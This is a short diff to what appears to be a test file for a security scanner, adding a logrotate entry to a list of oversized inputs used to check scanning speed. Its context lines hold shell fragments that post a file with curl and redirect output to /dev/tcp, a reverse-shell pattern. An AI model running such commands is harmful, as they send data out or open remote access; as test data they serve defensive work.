@@ -26,6 +26,7 @@ SLOW = [
     (".github/workflows/a.yml", "run: print" + " print" * (LENGTH // 6) + " ${{ secrets.A }}"),
     ("a.yml", "\n" * LENGTH),
     ("sudoers", "Defaults" + " " * LENGTH),
+    ("etc/logrotate.d/a", "prerotate\n" * (LENGTH // 10)),
     ("a.sh", "curl -d @$x\n" * 20_000),
     ("a.sh", "exec >/dev/tcp/a/1\n" * 20_000),
 ]
